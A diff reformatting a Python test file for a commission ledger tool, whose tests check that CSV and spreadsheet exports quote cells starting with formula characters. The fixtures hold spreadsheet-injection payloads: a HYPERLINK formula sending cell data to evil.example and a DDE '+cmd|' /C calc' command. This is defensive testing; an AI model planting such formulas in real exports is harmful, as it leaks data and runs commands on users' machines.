@@ -33,10 +33,12 @@ component commission {
 """
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
-DEALS = [("@SUM(1+1)", LINK, "2027-01-10", "1000"),
-         ("-5", "+cmd|' /C calc'!A0", "2027-02-10", "-300"),  # a refund, in a key that is a plain number
-         ("D3", "-ann", "2027-02-11", "2000"),
-         ("D4", "bob", "2026-12-31", "500")]  # rejected: outside the plan year
+DEALS = [
+    ("@SUM(1+1)", LINK, "2027-01-10", "1000"),
+    ("-5", "+cmd|' /C calc'!A0", "2027-02-10", "-300"),  # a refund, in a key that is a plain number
+    ("D3", "-ann", "2027-02-11", "2000"),
+    ("D4", "bob", "2026-12-31", "500"),
+]  # rejected: outside the plan year
 REJECTED_KEY = "D4"
 
 
@@ -56,10 +58,38 @@ def read_csv(path) -> list[dict]:
 
 
 def test_the_rule():
-    assert [spreadsheet_text(t) for t in ("=1+1", "+cmd", "-ann", "@SUM(A1)", "\tx", "\rx", "-12.50", "+3",
-                                          "-1,234.50", "1e5", "alice", "", "'=x")] == \
-        ["'=1+1", "'+cmd", "'-ann", "'@SUM(A1)", "'\tx", "'\rx", "-12.50", "+3", "-1,234.50", "1e5", "alice", "",
-         "'=x"]
+    assert [
+        spreadsheet_text(t)
+        for t in (
+            "=1+1",
+            "+cmd",
+            "-ann",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+            "-12.50",
+            "+3",
+            "-1,234.50",
+            "1e5",
+            "alice",
+            "",
+            "'=x",
+        )
+    ] == [
+        "'=1+1",
+        "'+cmd",
+        "'-ann",
+        "'@SUM(A1)",
+        "'\tx",
+        "'\rx",
+        "-12.50",
+        "+3",
+        "-1,234.50",
+        "1e5",
+        "alice",
+        "",
+        "'=x",
+    ]
     for text in ("=1+1", "-12.50", "alice", "\tx", "'x"):
         assert from_spreadsheet_text(spreadsheet_text(text)) == text
 
@@ -78,11 +108,17 @@ def test_ledger_and_rejects_csv_quote_formulas_and_keep_numbers(workspace):
     assert [(r["row"], r["key"]) for r in rejects] == [("5", REJECTED_KEY)]
     # the ledger as parquet and JSON keeps the data as it is
     result.write(workspace / "ledger.parquet")
-    assert set(pq.read_table(workspace / "ledger.parquet").column("payee").to_pylist()) == \
-        {LINK, "+cmd|' /C calc'!A0", "-ann"}
+    assert set(pq.read_table(workspace / "ledger.parquet").column("payee").to_pylist()) == {
+        LINK,
+        "+cmd|' /C calc'!A0",
+        "-ann",
+    }
     result.write(workspace / "ledger.json")
-    assert {line["payee"] for line in json.loads((workspace / "ledger.json").read_text())} == \
-        {LINK, "+cmd|' /C calc'!A0", "-ann"}
+    assert {line["payee"] for line in json.loads((workspace / "ledger.json").read_text())} == {
+        LINK,
+        "+cmd|' /C calc'!A0",
+        "-ann",
+    }
 
 
 def test_rejects_csv_quotes_a_formula_in_a_key(workspace):
@@ -100,8 +136,9 @@ def test_a_csv_ledger_with_quoted_cells_is_verified_and_its_totals_compared(work
     outcome = verify(ledger)
     assert not outcome.identical
     # payees as the run names them: the quote is the file's, not the name's
-    assert [(payee, str(before), str(after)) for payee, _, before, after in outcome.changed_totals] == \
-        [(LINK, "100.00", "200.00")]
+    assert [(payee, str(before), str(after)) for payee, _, before, after in outcome.changed_totals] == [
+        (LINK, "100.00", "200.00")
+    ]
 
 
 def test_statement_csv_quotes_formulas(spm, workspace):
